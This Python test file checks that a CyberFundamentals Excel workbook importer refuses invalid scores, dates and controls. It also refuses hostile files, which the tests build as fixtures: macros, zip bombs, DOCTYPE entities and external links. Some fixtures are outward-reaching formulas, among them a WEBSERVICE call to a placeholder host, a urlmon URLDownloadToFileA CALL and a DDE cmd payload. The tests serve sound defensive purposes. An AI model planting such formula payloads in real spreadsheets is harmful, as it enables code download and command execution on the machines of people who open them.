"""What an official workbook may not be or hold: refused whole, in one sentence, with its place."""

import io
import struct
import time
import zipfile

import pytest

from belfort.domain.errors import RefusedFileError
from belfort.domain.frameworks import AssuranceLevel
from belfort.exchange.cyfun_formulas import reaches_outside
from belfort.exchange.cyfun_workbook import read_cyfun_workbook
from belfort.exchange.limits import MEBIBYTE
from tests.exchange.books import Change, bent
from tests.exchange.cyfun_books import (
    BASIC,
    ESSENTIAL,
    IMPORTANT,
    SHEETS,
    book_2023,
    book_2025,
    changed,
    framework,
    places,
)

GOVERN = "xl/worksheets/sheet2.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"


def refusal_of(data: bytes, version: str = "2025", level: AssuranceLevel | None = None) -> RefusedFileError:
    """Return the refusal of a workbook; its sentences are short and there in both languages."""
    began = time.monotonic()
    with pytest.raises(RefusedFileError) as refusal:
        read_cyfun_workbook(data, framework(version), level)
    assert time.monotonic() - began < 10
    for text in (refusal.value.text.nl, refusal.value.text.en):
        assert len(text) < 250
        assert text.endswith(".")
    assert refusal.value.text.nl != refusal.value.text.en
    return refusal.value


SCORES = {
    "a score of 6": (6, "cel G3 bevat 6; een score is een geheel getal van 1 tot 5."),
    "a score of 0": (0, "cel G3 bevat 0; een score is een geheel getal van 1 tot 5."),
    "a negative score": (-1, "cel G3 bevat -1; een score is een geheel getal van 1 tot 5."),
    "half a point": (2.5, "cel G3 bevat 2.5; een score is een geheel getal van 1 tot 5."),
    "a word": ("drie", "cel G3 bevat drie; een score is een geheel getal van 1 tot 5."),
    "a yes": (True, "cel G3 bevat 1; een score is een geheel getal van 1 tot 5."),
    "a figure as text": (
        "3",
        "cel G3 bevat 3 als tekst, en daarmee rekent het werkboek niet; typ het cijfer opnieuw.",
    ),
    "a formula": ("=1+2", "cel G3 bevat een formule in plaats van een waarde."),
    "a long text": ("x" * 90, "cel G3 bevat " + "x" * 40 + "…; een score is een geheel getal van 1 tot 5."),
}


@pytest.mark.parametrize("name", SCORES)
def test_a_score_is_refused_with_its_cell_when_it_is(name: str) -> None:
    value, words = SCORES[name]
    refusal = refusal_of(changed(book_2025(), {"GOVERN!G3": value}))
    assert refusal.text.nl == f"blad GOVERN, rij 3: {words}"


@pytest.mark.parametrize("stored", [b"<v>NaN</v>", b"<v>1e999</v>", b"<v>3,0</v>", b"<v>1_0</v>", "<v>٣</v>".encode()])
def test_a_strange_number_is_no_score(stored: bytes) -> None:
    part = zipfile.ZipFile(io.BytesIO(book_2025())).read(GOVERN)
    start = part.index(b'<c r="G3"')
    cell = part[start : part.index(b"</c>", start)]
    strange = part.replace(cell, cell.replace(b"<v>1</v>", stored))
    assert strange != part
    assert "geheel getal" in refusal_of(bent(book_2025(), {GOVERN: lambda _: strange})).text.nl


def test_an_error_where_a_score_belongs_is_refused() -> None:
    change: dict[str, Change] = {
        GOVERN: lambda part: part.replace(b'<c r="G3"', b'<c r="G3" t="e"').replace(b' t="n"><v>1</v>', b"><v>1</v>")
    }
    assert refusal_of(bent(book_2025(), change)).text.nl == (
        "blad GOVERN, rij 3: cel G3 bevat een fout in plaats van een waarde."
    )


def test_a_formula_in_a_comment_or_a_date_is_refused() -> None:
    assert "cel K3 bevat een formule" in refusal_of(changed(book_2025(), {"GOVERN!K3": "=A1"})).text.nl
    assert "cel L3 bevat een formule" in refusal_of(changed(book_2025(), {"GOVERN!L3": "=A1"})).text.nl
    assert "cel T27 bevat een formule" in refusal_of(changed(book_2025(), {"Introduction!T27": "=TODAY()"})).text.nl


@pytest.mark.parametrize("value", ["gisteren", True, 0, -5, 3_000_000, "31/02/2026", "2026-03-31 ochtend"])
def test_a_date_that_is_none_is_refused(value: object) -> None:
    refusal = refusal_of(changed(book_2025(), {"Introduction!T27": value}))
    assert refusal.text.nl.startswith("blad Introduction, rij 27: cel T27 bevat ")
    assert refusal.text.nl.endswith("; dat is geen datum.")


def test_a_control_that_does_not_exist_is_refused_by_name() -> None:
    refusal = refusal_of(changed(book_2025(), {"GOVERN!F3": "GV.OC-09.1: iets"}))
    assert refusal.text.nl == "blad GOVERN, rij 3: cel F3: maatregel GV.OC-09.1 bestaat niet."
    assert refusal.text.en == "sheet GOVERN, row 3: cell F3: control GV.OC-09.1 does not exist."


def test_a_control_that_is_there_twice_is_refused_by_name() -> None:
    refusal = refusal_of(changed(book_2025(), {"GOVERN!F4": "GV.OC-1.1: nog eens"}))
    assert refusal.text.nl == "blad GOVERN, rij 4: cel F4: maatregel GV.OC-01.1 staat er twee keer."


def test_a_control_of_a_higher_level_is_refused_by_name() -> None:
    refusal = refusal_of(changed(book_2023(), {"BASIC Details!E3": "ID.AM-1.2: iets"}), "2023", BASIC)
    assert refusal.text.nl == "blad BASIC Details, rij 3: cel E3: maatregel ID.AM-1.2 hoort niet bij niveau Basis."


def test_a_score_without_a_control_is_refused() -> None:
    row = next(row for name, (_, row) in places(book_2023()).items() if name == "BASIC Details!ID.AM-3.1") + 1
    refusal = refusal_of(changed(book_2023(), {f"BASIC Details!G{row}": 3}), "2023", BASIC)
    assert f"cel G{row} heeft een score, maar NO REQUIREMENT / alleen raad is geen maatregel." in refusal.text.nl
    refusal = refusal_of(changed(book_2025(), {"GOVERN!H60": 3}))
    assert refusal.text.nl == "blad GOVERN, rij 60: cel H60 heeft een score, maar … is geen maatregel."


def test_2023_knows_no_exclusion() -> None:
    refusal = refusal_of(changed(book_2023(), {"BASIC Details!H3": "N/A"}), "2023", BASIC)
    assert refusal.text.nl.startswith("blad BASIC Details, rij 3: ID.AM-1.1")
    assert "niet van toepassing" in refusal.text.nl


def excluded(level: AssuranceLevel, count: int) -> bytes:
    """Return the workbook of a level with the first controls excluded that may be."""
    data = book_2025(level)
    column = "F" if level is BASIC else "G"
    free = [c.ref for c in framework("2025").controls_at(level) if framework("2025").may_exclude(c.ref, level)]
    where = {ref.partition("!")[2]: place for ref, place in places(data).items()}
    rows = [where[ref.replace("-0", "-") if level is BASIC else ref] for ref in free[:count]]
    return changed(data, {f"{sheet}!{column}{row}": "N/A" for sheet, row in rows})


@pytest.mark.parametrize(("level", "limit"), [(BASIC, 1), (IMPORTANT, 3), (ESSENTIAL, 5)])
def test_no_more_exclusions_than_the_level_allows(level: AssuranceLevel, limit: int) -> None:
    found = read_cyfun_workbook(excluded(level, limit), framework("2025"))
    assert sum(answer.score.not_applicable for answer in found.answers) == limit
    refusal = refusal_of(excluded(level, limit + 1))
    assert f"hoogstens {limit} " in refusal.text.nl.lower()
    assert refusal.place.row is not None


def test_many_exclusions_make_no_long_sentence() -> None:
    assert "hoogstens 5 " in refusal_of(excluded(ESSENTIAL, 60)).text.nl.lower()


@pytest.mark.parametrize("ref", ["PR.AA-01.1", "GV.RM-01.1"])
def test_key_and_management_controls_cannot_be_excluded(ref: str) -> None:
    sheet, row = next(place for name, place in places(book_2025()).items() if name.endswith(f"!{ref}"))
    refusal = refusal_of(changed(book_2025(), {f"{sheet}!G{row}": "N/A"}))
    assert refusal.text.nl.startswith(f"blad {sheet}, rij {row}: {ref} ")
    assert "niet van toepassing" in refusal.text.nl


def test_another_version_or_level_is_refused() -> None:
    assert refusal_of(book_2023()).text.nl == "dit werkboek is van CyberFundamentals 2023, gevraagd is 2025."
    assert refusal_of(book_2025(), "2023").text.en == "this workbook is of CyberFundamentals 2025, asked is 2023."
    assert refusal_of(book_2025(), level=BASIC).text.nl == ("dit werkboek is van niveau Essentieel, gevraagd is Basis.")


def test_a_file_with_several_levels_asks_which() -> None:
    assert refusal_of(book_2023(), "2023").text.nl == (
        "dit werkboek heeft de niveaus Basis, Belangrijk en Essentieel; kies er een."
    )


def test_a_file_that_says_no_level_is_refused() -> None:
    cells = {f"{sheet}!G1": None for sheet in SHEETS.values()}
    assert "boven de scores staat geen niveau" in refusal_of(changed(book_2025(), cells)).text.nl


def relation(kind: str) -> dict[str, Change]:
    text = f'<Relationship Id="rIdX" Type="http://x/relationships/{kind}" Target="x.bin"/></Relationships>'
    return {RELATIONS: lambda part: part.replace(b"</Relationships>", text.encode())}


def in_rows(xml: bytes) -> dict[str, Change]:
    return {GOVERN: lambda part: part.replace(b"</sheetData>", xml + b"</sheetData>")}


def in_sheet(xml: bytes) -> dict[str, Change]:
    return {GOVERN: lambda part: part.replace(b"</worksheet>", xml + b"</worksheet>")}


def with_formula(formula: str) -> dict[str, Change]:
    return in_rows(f'<row r="90"><c r="I90"><f>{formula}</f><v>1</v></c></row>'.encode())


def encrypted() -> bytes:
    """Return the beginning of what Excel makes of a workbook with a password to open it."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + struct.pack("<16s3H", b"", 0x3E, 3, 0xFFFE) + bytes(4_000)


REACHING = "reikt buiten het bestand"
BROKEN = "geen leesbaar Excel-bestand"
GOOD = book_2025()
HOSTILE: dict[str, tuple[bytes, str]] = {
    "a password to open it": (encrypted(), "wachtwoord"),
    "half a file": (GOOD[: len(GOOD) // 2], BROKEN),
    "nothing": (b"", "leeg"),
    "a macro": (bent(GOOD, add={"xl/vbaProject.bin": b"\xcc\x61"}), "macro"),
    "a macro by its relation": (bent(GOOD, relation("vbaProject")), "macro"),
    "a link to another file": (bent(GOOD, add={"xl/externalLinks/externalLink1.xml": b"<a/>"}), "ander bestand"),
    "a file inside": (bent(GOOD, add={"xl/embeddings/oleObject1.bin": b"a"}), "ander bestand"),
    "a connection": (bent(GOOD, add={"xl/connections.xml": b"<a/>"}), "van elders"),
    "a zip bomb": (bent(GOOD, add={"xl/media/image1.png": bytes(100 * MEBIBYTE)}), "uitgepakt te groot"),
    "a bomb of elements": (bent(GOOD, in_sheet(b"<a/>" * 500_000)), "uitgepakt te groot"),
    "a far cell": (bent(GOOD, in_rows(b'<row r="90"><c r="XFD90"><v>1</v></c></row>')), "XFD90 ligt te ver"),
    "a far row": (bent(GOOD, in_rows(b'<row r="90000"><c r="A90000"><v>1</v></c></row>')), "meer dan 2000 rijen"),
    "a huge merge": (
        bent(GOOD, in_sheet(b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
        "ligt te ver",
    ),
    "merges over each other": (
        bent(GOOD, in_sheet(b"<mergeCells>" + b'<mergeCell ref="F1:K2000"/>' * 2_000 + b"</mergeCells>")),
        BROKEN,
    ),
    "a document type": (
        bent(GOOD, {GOVERN: lambda part: b'<!DOCTYPE x [<!ENTITY a "b">]>' + part}),
        "DOCTYPE",
    ),
    "a cell twice": (bent(GOOD, in_rows(b'<row r="3"><c r="G3"><v>5</v></c></row>')), BROKEN),
    "a cell in another row": (bent(GOOD, in_rows(b'<row r="91"><c r="G3"><v>5</v></c></row>')), BROKEN),
    "a text that does not exist": (
        bent(GOOD, {GOVERN: lambda part: part.replace(b't="s"><v>', b't="s"><v>99999')}),
        BROKEN,
    ),
    "a far too long text": (
        bent(GOOD, in_rows(b'<row r="90"><c r="F90" t="inlineStr"><is><t>' + b"x" * 40_000 + b"</t></is></c></row>")),
        "cel F90 is langer dan 32767 tekens",
    ),
    "too much text": (
        bent(GOOD, {"xl/sharedStrings.xml": lambda part: part.replace(b"<si>", b"<si><t>" + b"x" * 10**5 + b"</t>")}),
        "te groot",
    ),
    "a web service": (bent(GOOD, with_formula('_xlfn.WEBSERVICE("http://x.example/"&amp;A1)')), REACHING),
    "an old macro call": (bent(GOOD, with_formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)')), REACHING),
    "a program": (bent(GOOD, with_formula("cmd|'/C calc'!A0")), REACHING),
    "a numbered other file": (bent(GOOD, with_formula("[1]Blad1!A1")), REACHING),
    "a named other file": (bent(GOOD, with_formula("'\\\\server\\share\\[b.xlsx]Blad 1'!A1")), REACHING),
    "a formula without end": (bent(GOOD, with_formula("A1+" * 3_000)), "te lange formule"),
    "a name that fetches": (
        bent(
            GOOD,
            {
                "xl/workbook.xml": lambda part: part.replace(b"<definedNames />", b"").replace(
                    b"<calcPr", b'<definedNames><definedName name="x">RTD("a",,"b")</definedName></definedNames><calcPr'
                )
            },
        ),
        "een formule reikt buiten het bestand",
    ),
    "a rule that fetches": (
        bent(
            GOOD,
            in_sheet(
                b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
                b"<formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"
            ),
        ),
        REACHING,
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_workbook_is_refused_when_it_holds(name: str) -> None:
    data, words = HOSTILE[name]
    assert data != GOOD
    assert words in refusal_of(data).text.nl


@pytest.mark.parametrize(
    "formula",
    [
        "AVERAGE(I3,I4)",
        "'BASIC Details'!K3",
        'IF(OR($G3="N/A",$H3="N/A"),3,$G3)',
        'SUMPRODUCT(--((GOVERN!$G$3:$G$1000="N/A")+(A1)>0))',
        'HYPERLINK("https://www.example.org/","lees")',
        '"een | streep, [1] en CALL( in een tekst"',
        "MyRUN.AVERAGE1(A1)",
        "Tabel1[Kolom]",
        "",
    ],
)
def test_ordinary_formulas_stay_inside(formula: str) -> None:
    assert reaches_outside(formula) == ""


@pytest.mark.parametrize("formula", ["a" * 200_000, "'" * 100_001, '"' * 100_001, "[1" * 50_000, "a(" * 50_000])
def test_a_long_formula_costs_no_time(formula: str) -> None:
    began = time.monotonic()
    reaches_outside(formula)
    assert time.monotonic() - began < 1
